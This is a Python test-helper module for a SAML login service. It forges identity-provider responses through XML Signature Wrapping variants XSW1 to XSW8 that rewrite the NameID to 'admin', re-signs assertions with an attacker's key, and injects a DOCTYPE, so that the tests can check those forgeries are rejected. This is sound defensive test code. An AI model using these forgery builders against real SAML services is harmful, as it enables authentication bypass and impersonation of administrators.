"""Attacker tooling for the SAML tests: decode, mutate and re-encode a real IdP response.

The XSW builders follow SAML Raider's ``XSWHelpers.java`` as summarised in the security anchors
(section 2.2). Each takes the parsed Response of a genuine, signed sign-in and returns a new tree
whose NameID claims to be `VICTIM`.
"""

from __future__ import annotations

import base64
import copy
from datetime import UTC, datetime

import xmlsec
from lxml import etree

from citadel.sso.saml import NS, NS_DS, NS_SAML, NS_SAMLP
from tests.sso.idp import KeyPair, SignInResult

VICTIM = "admin"
_SIGNATURE = f"{{{NS_DS}}}Signature"


def response_of(result: SignInResult) -> etree._Element:
    """The posted Response as an lxml tree (the test's own copy)."""
    return etree.fromstring(base64.b64decode(result.form["SAMLResponse"]))


def form_of(response: etree._Element | bytes, result: SignInResult) -> dict[str, str]:
    """The form a browser would post, carrying `response` instead of the genuine one."""
    xml = response if isinstance(response, bytes) else etree.tostring(response)
    return {**result.form, "SAMLResponse": base64.b64encode(xml).decode()}


def assertion_of(response: etree._Element) -> etree._Element:
    return response.find(f"{{{NS_SAML}}}Assertion")


def signature_of(element: etree._Element) -> etree._Element | None:
    return element.find(_SIGNATURE)


def without_signature(element: etree._Element) -> etree._Element:
    clone = copy.deepcopy(element)
    for signature in clone.findall(_SIGNATURE):
        clone.remove(signature)
    return clone


def impersonate(element: etree._Element, name_id: str = VICTIM) -> etree._Element:
    """Change every NameID under `element` (the attacker's edit)."""
    for node in element.iter(f"{{{NS_SAML}}}NameID"):
        node.text = name_id
    return element


def name_id_of(response: etree._Element) -> etree._Element:
    return response.xpath("/samlp:Response/saml:Assertion/saml:Subject/saml:NameID", namespaces=NS)[
        0
    ]


# --- XSW1-XSW2: a signed Response ---------------------------------------------------------------


def xsw1(response: etree._Element) -> etree._Element:
    """Unsigned clone of the Response hidden inside its Signature; outer Response modified."""
    evil = copy.deepcopy(response)
    clone = without_signature(response)
    signature_of(evil).append(clone)
    evil.set("ID", "_evil_response")
    impersonate(assertion_of(evil))
    return evil


def xsw2(response: etree._Element) -> etree._Element:
    """As XSW1, but the clone is a sibling before the Signature (detached shape)."""
    evil = copy.deepcopy(response)
    clone = without_signature(response)
    signature = signature_of(evil)
    signature.addprevious(clone)
    evil.set("ID", "_evil_response")
    impersonate(assertion_of(evil))
    return evil


# --- XSW3-XSW8: a signed Assertion --------------------------------------------------------------


def _evil_assertion(response: etree._Element) -> etree._Element:
    evil = impersonate(without_signature(assertion_of(response)))
    evil.set("ID", "_evil_assertion")
    return evil


def xsw3(response: etree._Element) -> etree._Element:
    """A modified unsigned Assertion (new ID) before the original signed one."""
    forged = copy.deepcopy(response)
    assertion_of(forged).addprevious(_evil_assertion(response))
    return forged


def xsw4(response: etree._Element) -> etree._Element:
    """A modified unsigned Assertion wrapping the original signed one."""
    forged = copy.deepcopy(response)
    original = assertion_of(forged)
    evil = _evil_assertion(response)
    original.addprevious(evil)
    evil.append(original)
    return forged


def xsw5(response: etree._Element) -> etree._Element:
    """The signed Assertion modified (new ID, Signature kept); a clean copy appended at the end."""
    forged = copy.deepcopy(response)
    original = assertion_of(forged)
    clean = without_signature(original)
    impersonate(original).set("ID", "_evil_assertion")
    forged.append(clean)
    return forged


def xsw6(response: etree._Element) -> etree._Element:
    """As XSW5, but the clean copy sits inside the modified Assertion's Signature."""
    forged = copy.deepcopy(response)
    original = assertion_of(forged)
    clean = without_signature(original)
    impersonate(original).set("ID", "_evil_assertion")
    signature_of(original).append(clean)
    return forged


def xsw7(response: etree._Element) -> etree._Element:
    """A modified unsigned Assertion inside samlp:Extensions, before the original."""
    forged = copy.deepcopy(response)
    extensions = etree.Element(f"{{{NS_SAMLP}}}Extensions")
    extensions.append(_evil_assertion(response))
    assertion_of(forged).addprevious(extensions)
    return forged


def xsw8(response: etree._Element) -> etree._Element:
    """The signed Assertion modified; a ds:Object in its Signature holds the clean copy."""
    forged = copy.deepcopy(response)
    original = assertion_of(forged)
    clean = without_signature(original)
    impersonate(original).set("ID", "_evil_assertion")
    ds_object = etree.SubElement(signature_of(original), f"{{{NS_DS}}}Object")
    ds_object.append(clean)
    return forged


# --- other forgeries ----------------------------------------------------------------------------


def resign_assertion(
    response: etree._Element,
    keys: KeyPair,
    *,
    method: int = xmlsec.constants.TransformRsaSha256,
    digest: int = xmlsec.constants.TransformSha256,
) -> etree._Element:
    """Replace the Assertion's signature with one made by `keys` (its certificate in KeyInfo)."""
    forged = copy.deepcopy(response)
    for signature in forged.iter(_SIGNATURE):
        signature.getparent().remove(signature)
    assertion = assertion_of(forged)
    template = xmlsec.template.create(
        assertion, xmlsec.constants.TransformExclC14N, method, ns="ds"
    )
    assertion.find(f"{{{NS_SAML}}}Issuer").addnext(template)
    reference = xmlsec.template.add_reference(template, digest, uri="#" + assertion.get("ID"))
    xmlsec.template.add_transform(reference, xmlsec.constants.TransformEnveloped)
    xmlsec.template.add_transform(reference, xmlsec.constants.TransformExclC14N)
    xmlsec.template.x509_data_add_certificate(
        xmlsec.template.add_x509_data(xmlsec.template.ensure_key_info(template))
    )
    xmlsec.tree.add_ids(assertion, ["ID"])
    context = xmlsec.SignatureContext()
    key = xmlsec.Key.from_memory(keys.key_pem.encode(), xmlsec.constants.KeyDataFormatPem)
    key.load_cert_from_memory(keys.cert_pem.encode(), xmlsec.constants.KeyDataFormatPem)
    context.key = key
    context.sign(template)
    return forged


def with_doctype(response: etree._Element, doctype: str, name_id_text: str) -> bytes:
    """The Response serialised behind a DOCTYPE, with NameID's text replaced verbatim."""
    forged = copy.deepcopy(response)
    name_id_of(forged).text = "__NAMEID__"
    xml = etree.tostring(forged).replace(b"__NAMEID__", name_id_text.encode())
    return b'<?xml version="1.0"?>\n' + doctype.encode() + b"\n" + xml


def utc_now() -> datetime:
    return datetime.now(UTC)
